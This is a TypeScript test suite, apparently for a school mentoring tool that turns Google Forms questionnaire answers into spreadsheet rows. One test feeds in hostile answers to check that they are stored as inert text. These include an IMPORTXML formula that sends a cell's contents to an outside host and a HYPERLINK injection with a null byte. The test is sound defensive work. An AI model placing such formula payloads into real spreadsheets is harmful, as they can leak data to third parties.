import type { Host } from '../../host/contract';
import { formPlan } from '../../src/questionnaires/questionnaire';
import { questionnaires } from '../../src/questionnaires/questionnaireList';
import { allowSurvey, answerFully, CODE, declared, formOf, peopled, publish } from './questionnaires';
import { ask, column, menu, prepareOnce, records, reply } from './school';

let host: Host;

let school: Awaited<ReturnType<typeof prepareOnce>>;
beforeAll(async () => {
  school = await prepareOnce(peopled);
}, 60_000);
afterAll(() => school.remove());

beforeEach(async () => {
  host = await school.open();
});

afterEach(() => host.close());

const receive = () => menu(host, 'receiveAnswers');
const codeOf = (key: string): string => (declared(key).respondent === 'mentor' ? 'М-0001' : 'Н-0001');
const SHEETS = ['АПО', 'Замеры', 'Обратная связь', 'Предпочтения', 'Запросы о детях', 'Предварительные запросы'];

test('every questionnaire becomes a form, and its answer a row of its sheet with its fixed values', async () => {
  allowSurvey(host, 'Н-0001');
  const kept = questionnaires.filter(({ respondent }) => respondent !== 'newcomer');
  await publish(host, ...kept.map(({ key }) => key));
  for (const { key } of kept) {
    const code = codeOf(key);
    await answerFully(host, key, { [CODE]: code, 'Код участника (ребёнка), если вы его знаете': code });
  }

  await receive();

  for (const questionnaire of kept) {
    const { key, registry, fixed, respondent } = questionnaire;
    const rows = records(host, registry.sheet).filter((row) => row['Код анкеты'] === key);
    const captions = Object.fromEntries(
      Object.entries(fixed).map(([name, value]) => [registry.columns[name]?.header ?? '', value]),
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ ...captions, Состояние: 'Принят', 'Учебный год': '2026/2027' });
    if (respondent === 'mentee' || respondent === 'mentor') expect(rows[0]?.['Код участника']).toBe(codeOf(key));
    const asked = formPlan(questionnaire).items.map((item) => registry.columns[item.key]?.header ?? '');
    expect(asked.filter((caption) => rows[0]?.[caption] === '')).toEqual([]);
  }
  expect(records(host, 'Анкета куратора')[0]).toMatchObject({ 'Сумма баллов': 0, Уровень: 'Недопустимый' });
}, 180_000);

test('an edited answer and a repeated one change the same row, and the journal keeps what was there', async () => {
  await publish(host, 'interim-mentor');
  const meetings = 'Сколько встреч прошло?';
  const first = await answerFully(host, 'interim-mentor', {
    [CODE]: 'м-1',
    [meetings]: '3',
    'Что мешает? (можно не отвечать)': 'расписание',
  });
  await receive();
  await answerFully(
    host,
    'interim-mentor',
    { [CODE]: 'м-1', [meetings]: '4', 'Что мешает? (можно не отвечать)': 'ремонт' },
    { trigger: false, edits: first },
  );
  await receive();
  expect(records(host, 'Обратная связь')).toEqual([
    expect.objectContaining({
      'Код участника': 'М-0001',
      'Встреч прошло': 4,
      'Что мешает': 'ремонт',
      Волна: 'Декабрь',
    }),
  ]);

  await answerFully(host, 'interim-mentor', {
    [CODE]: 'M 0001',
    [meetings]: '5',
    'Что мешает? (можно не отвечать)': '',
  });
  await receive();
  await receive();

  expect(records(host, 'Обратная связь')).toEqual([
    expect.objectContaining({ 'Код участника': 'М-0001', 'Встреч прошло': 5, 'Что мешает': 'ремонт' }),
  ]);
  const before = column(host, 'Журнал', 'Прежние значения').join(' ');
  expect(before).toContain('расписание');
  expect(column(host, 'Принятые ответы', 'Что сделано')).toEqual([
    'Новая строка',
    'Обновлена строка',
    'Обновлена строка',
  ]);
});

test('an answer under an unknown code is kept, and counts once the curator has put the code right', async () => {
  await publish(host, 'interim-mentee');
  const id = await answerFully(host, 'interim-mentee', { [CODE]: 'Н-0701' });
  await receive();
  expect(records(host, 'Обратная связь')).toEqual([
    expect.objectContaining({ 'Код участника': 'Н-0701', Состояние: 'Код не найден' }),
  ]);

  host.type('Обратная связь', 2, 2, [['н-1']]);
  await receive();
  expect(records(host, 'Обратная связь')).toEqual([
    expect.objectContaining({ 'Код участника': 'Н-0001', Состояние: 'Принят' }),
  ]);

  await answerFully(
    host,
    'interim-mentee',
    { [CODE]: 'Н-0701', 'Сколько встреч прошло?': '9' },
    { trigger: false, edits: id },
  );
  await receive();
  expect(records(host, 'Обратная связь')).toEqual([
    expect.objectContaining({ 'Код участника': 'Н-0001', Состояние: 'Принят', 'Встреч прошло': 9 }),
  ]);
});

test('an answer of a person without the needed consent stays in the form until the consent is there', async () => {
  await publish(host, 'interim-mentee', 'needs-pupil');
  await answerFully(host, 'interim-mentee', { [CODE]: 'Н-0003' });
  await answerFully(host, 'needs-pupil', { [CODE]: 'Н-0001' });
  await receive();
  for (const sheet of SHEETS) expect(records(host, sheet)).toEqual([]);
  expect(records(host, 'Принятые ответы')).toEqual([]);

  allowSurvey(host, 'Н-0001');
  const row = column(host, 'Наставляемые', '№ п/п').indexOf('Н-0003') + 2;
  const captions = host.values('Наставляемые')[0]?.map(String) ?? [];
  host.type('Наставляемые', row, captions.indexOf('Согласие на обработку персональных данных') + 1, [['Даю согласие']]);
  host.type('Наставляемые', row, captions.indexOf('Дата подписания согласия') + 1, [['11.09.2026']]);
  await receive();

  expect(column(host, 'Обратная связь', 'Код участника')).toEqual(['Н-0003']);
  expect(column(host, 'АПО', 'Код участника')).toEqual(['Н-0001']);
  expect(String(column(host, 'АПО', '#Теги по ответам')[0])).toContain('#профориентация');
});

test('what a parent and a psychologist say of a child meets in the row of the child by its code', async () => {
  await publish(host, 'child-parent', 'child-psychologist');
  const code = 'Код участника (ребёнка), если вы его знаете';
  const needs = 'С чем ребёнку нужна помощь наставника? (можно выбрать несколько)';
  await answerFully(host, 'child-parent', { [code]: 'Н-0001', [needs]: ['Спорт'] });
  await answerFully(host, 'child-psychologist', { [code]: 'Н-0001', [needs]: ['Общение и уверенность в себе'] });
  await receive();

  expect(column(host, 'Запросы о детях', 'Источник записи')).toEqual(['Родитель', 'Психолог']);
  const tags = String(column(host, 'Наставляемые', '#Теги запроса')[0]);
  for (const tag of ['#математика', '#спорт', '#общение', '#уверенность_в_себе']) expect(tags).toContain(tag);
});

test('a child named without a code is never merged by name: the curator gets a suggestion', async () => {
  await publish(host, 'child-teacher', 'child-parent');
  const named = {
    'Код участника (ребёнка), если вы его знаете': '',
    'Фамилия и имя ребёнка (если код неизвестен)': 'алиса зорина',
    'Класс ребёнка': '6 «А»',
    'С чем ребёнку нужна помощь наставника? (можно выбрать несколько)': ['Спорт'],
  };
  await answerFully(host, 'child-teacher', named);
  await answerFully(host, 'child-parent', {
    ...named,
    'Согласны ли вы, чтобы школа использовала этот ответ при подборе наставника?': 'Не даю согласие',
  });
  await receive();
  expect(records(host, 'Запросы о детях')).toEqual([
    expect.objectContaining({ 'Код участника': '', Состояние: 'Впишите код', 'Похоже, это': 'Н-0001' }),
  ]);
  expect(String(column(host, 'Наставляемые', '#Теги запроса')[0])).not.toContain('#спорт');

  host.type('Запросы о детях', 2, 2, [['Н-0001']]);
  await receive();
  expect(String(column(host, 'Наставляемые', '#Теги запроса')[0])).toContain('#спорт');
});

test('preferences of both sides reach the bases in their order; an edited answer takes its former words back', async () => {
  await publish(host, 'preferences-mentee', 'preferences-mentor');
  const first = 'С кем из наставников вы хотели бы работать больше всего?';
  const never = 'С кем из наставников вам было бы некомфортно? (увидит только куратор)';
  const id = await answerFully(host, 'preferences-mentee', {
    ...{ [CODE]: 'Н-0001', [first]: 'М-0002', 'Второй выбор (можно не отвечать)': 'М-0001' },
    ...{ 'Третий выбор (можно не отвечать)': '', [never]: 'М-0005' },
  });
  await answerFully(host, 'preferences-mentor', {
    ...{ [CODE]: 'М-0001', 'С кем работать не готовы? (увидит только куратор)': 'Н-0002' },
    'С кем из наставляемых вы хотели бы работать больше всего?': 'Н-0001',
  });
  await receive();
  const own = () => records(host, 'Наставляемые')[0];
  expect(own()).toMatchObject({
    'Предпочтения после групповой встречи': 'М-0002; М-0001',
    'С кем нежелательно': 'М-0005',
  });
  expect(records(host, 'Наставники')[0]).toMatchObject({ 'С кем нежелательно': 'Н-0002' });

  await answerFully(
    host,
    'preferences-mentee',
    { [first]: 'М-0001', [CODE]: 'Н-0001', 'Второй выбор (можно не отвечать)': 'М-0002', [never]: 'М-0007' },
    { trigger: false, edits: id },
  );
  await receive();
  expect(own()).toMatchObject({ 'С кем нежелательно': 'М-0007' });
  expect(String(own()?.['Предпочтения после групповой встречи'])).toMatch(/^М-0001; М-0002/);

  await answerFully(
    host,
    'preferences-mentee',
    { [first]: 'М-0002', [CODE]: 'Н-0002', [never]: 'М-0007' },
    { trigger: false, edits: id },
  );
  await receive();
  expect(own()).toMatchObject({ 'Предпочтения после групповой встречи': '', 'С кем нежелательно': '' });
  expect(records(host, 'Наставляемые')[1]).toMatchObject({ 'С кем нежелательно': 'М-0007' });
});

test('hostile answers are kept as texts and change nothing else', async () => {
  await publish(host, 'interim-mentor', 'preliminary');
  const hostile = '=IMPORTXML("http://example.org/?"&A1;"//a")';
  await answerFully(host, 'interim-mentor', {
    [CODE]: `=HYPERLINK("x")\u0000${'Н'.repeat(300)}`,
    'Что мешает? (можно не отвечать)': hostile,
  });
  await answerFully(host, 'preliminary', {
    'Что ещё важно знать? Имена и фамилии не пишите.': '$& {{Директор}} 😀'.repeat(500),
  });
  await receive();

  expect(String(column(host, 'Обратная связь', 'Что мешает')[0]).replace(/^'/, '')).toBe(hostile);
  expect(column(host, 'Обратная связь', 'Состояние')).toEqual(['Код не найден']);
  expect(records(host, 'Предварительные запросы')).toHaveLength(1);
  for (const sheet of SHEETS) expect(host.formulas(sheet).flat().filter(Boolean)).toEqual([]);
});

test('a row typed from paper gets its number, source, state, year and day', async () => {
  const captions = host.values('Обратная связь')[0]?.map(String) ?? [];
  const typed = { 'Код участника': 'н1', Вид: 'Промежуточная', Роль: 'Наставляемый', 'Встреч прошло': 2 };
  host.type('Обратная связь', 2, 1, [captions.map((caption) => typed[caption as keyof typeof typed] ?? '')]);
  await receive();

  expect(records(host, 'Обратная связь')).toEqual([
    expect.objectContaining({
      ...{ '№ ответа': 'О-0001', 'Код участника': 'Н-0001', Состояние: 'Принят', 'Источник записи': 'Вручную' },
      ...{ 'Учебный год': '2026/2027', Волна: 'Декабрь', 'Код анкеты': 'interim-mentee' },
    }),
  ]);
});

test('personal links carry the code, for those alone whom the questionnaire is for', async () => {
  await publish(host, 'needs-teacher');
  const { links, count } = await ask(host, 'questionnaires.links', { key: 'needs-teacher' });
  const [item] = formOf(host, 'needs-teacher').items;
  expect(count).toBe(1);
  expect(links[0]?.code).toBe('Н-0002');
  expect(links[0]?.link).toContain(`entry.${item?.id}=%D0%9D-0002`);
  expect(column(host, 'Личные ссылки', 'Личная ссылка')).toEqual([links[0]?.link]);
  await ask(host, 'questionnaires.links', { key: 'needs-teacher' });
  expect(column(host, 'Личные ссылки', 'Личная ссылка')).toHaveLength(1);
});

test('the trigger of an answer opens only the form it was given to', async () => {
  await publish(host, 'interim-mentor', 'interim-mentee');
  await menu(host, 'setUpWorkbook');
  const costs: (number | undefined)[] = [];
  host.on((event) => {
    if (event.type === 'cost' && event.run === 'onFormAnswer') costs.push(event.cost.calls['FormApp.openById']);
  });
  await answerFully(host, 'interim-mentor', { [CODE]: 'М-0001' }, { trigger: true });
  expect(records(host, 'Обратная связь')).toHaveLength(1);
  expect(costs).toEqual([1]);
});

test('a tag the school adds becomes an option of the form, one it removes goes; answers stay', async () => {
  await publish(host, 'preliminary');
  const choices = () =>
    formOf(host, 'preliminary').items.find(({ title }) => title.startsWith('С чем вам нужна'))?.choices;
  expect(choices()).toContain('Физика');
  await answerFully(host, 'preliminary');
  const physics = column(host, 'Теги', 'Тег').indexOf('#физика') + 2;
  host.type('Теги', physics, 1, [['#школьный_музей']]);

  await publish(host, 'preliminary');

  expect(choices()).toContain('Школьный музей');
  expect(choices()).not.toContain('Физика');
  expect(host.forms()).toHaveLength(1);
  expect(formOf(host, 'preliminary').responses).toHaveLength(1);
});

test('the longest questionnaire is made far within the six minutes Google gives', async () => {
  const longest = [...questionnaires].sort((a, b) => formPlan(b).items.length - formPlan(a).items.length)[0];
  const { cost } = await reply(host, 'questionnaires.publish', { key: longest?.key ?? '' });
  // A slow day takes three times as long as the model says.
  expect(3 * cost.estimatedMs).toBeLessThan(240_000);
});

test('columns moved and renamed, rows sorted: an edited answer still finds its row', async () => {
  await publish(host, 'interim-mentor');
  const first = await answerFully(host, 'interim-mentor', { [CODE]: 'М-0001', 'Сколько встреч прошло?': '3' });
  await answerFully(host, 'interim-mentor', { [CODE]: 'М-0002', 'Сколько встреч прошло?': '8' });
  await receive();
  const captions = host.values('Обратная связь')[0]?.map(String) ?? [];
  host.type('Обратная связь', 1, captions.indexOf('Встреч прошло') + 1, [['Сколько раз виделись']]);
  host.edit({ kind: 'moveColumn', sheet: 'Обратная связь', from: 2, to: 9 });
  host.edit({ kind: 'sort', sheet: 'Обратная связь', column: 1, ascending: false });
  host.edit({ kind: 'renameSheet', sheet: 'Обратная связь', name: 'Отзывы' });

  await answerFully(
    host,
    'interim-mentor',
    { [CODE]: 'М-0001', 'Сколько встреч прошло?': '5' },
    { trigger: false, edits: first },
  );
  await receive();

  expect(records(host, 'Отзывы').map((row) => [row['Код участника'], row['Сколько раз виделись']])).toEqual([
    ['М-0002', 8],
    ['М-0001', 5],
  ]);
});
